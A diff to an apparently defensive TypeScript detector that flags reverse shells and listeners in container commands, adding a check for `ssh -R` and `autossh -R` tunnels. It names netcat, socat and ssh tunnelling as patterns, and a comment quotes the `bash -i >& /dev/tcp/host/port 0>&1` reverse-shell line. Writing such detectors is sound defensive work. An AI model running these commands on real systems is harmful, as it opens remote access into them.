@@ -49,6 +49,7 @@ export function shellListeners(commands: readonly Command[]): ShellListener[] {
       serviceStart(command) ??
       netcat(command) ??
       socat(command) ??
+      reverseTunnel(command) ??
       deviceShell(command) ??
       shellCode(command);
     return found === null ? [] : [{ index, ...found }];
@@ -101,6 +102,33 @@ function socat({ program, arguments: words }: Command): Found | null {
   const calls = words.some((word) => /^(?:TCP[46]?|SCTP[46]?|OPENSSL|SSL|VSOCK)(?:-CONNECT)?:/i.test(word));
   if (listens) return { what: 'listener', message: 'listens on a socket (socat)' };
   return runs && calls ? { what: 'reverse', message: 'hands a program to a remote host (socat)' } : null;
+}
+
+/** `ssh -R`, in a cluster (`-fNR`) or not: a port of the remote host leads into the container (ssh(1), "-R"). */
+function reverseTunnel({ program, arguments: words }: Command): Found | null {
+  if (program !== 'ssh' && program !== 'autossh') return null;
+  return sshOptions(words, program).some((word) => /^-[AaCfGgKkMNnqsTtvXxYy46]*R/.test(word))
+    ? { what: 'reverse', message: `opens a port of a remote host into the container (${program} -R)` }
+    : null;
+}
+
+/** Options before and after the host; what follows is run there. Some take the next word (ssh(1); autossh(1) for its -M). */
+function sshOptions(words: readonly string[], program: string): readonly string[] {
+  const takesNext =
+    program === 'autossh'
+      ? /^-M$|^-[A-Za-z]*[BbcDEeFIiJLlmOoPpQRSWw]$/
+      : /^-[A-Za-z]*[BbcDEeFIiJLlmOoPpQRSWw]$/;
+  const options: string[] = [];
+  let hosts = 0;
+  for (let index = 0; index < words.length && hosts < 2; index++) {
+    const word = words[index] ?? '';
+    if (!word.startsWith('-')) hosts++;
+    else {
+      options.push(word);
+      if (takesNext.test(word)) index++;
+    }
+  }
+  return options;
 }
 
 /** `bash -i >& /dev/tcp/host/port 0>&1`: bash(1), "REDIRECTION". Without `-i` or redirected input it is a probe. */
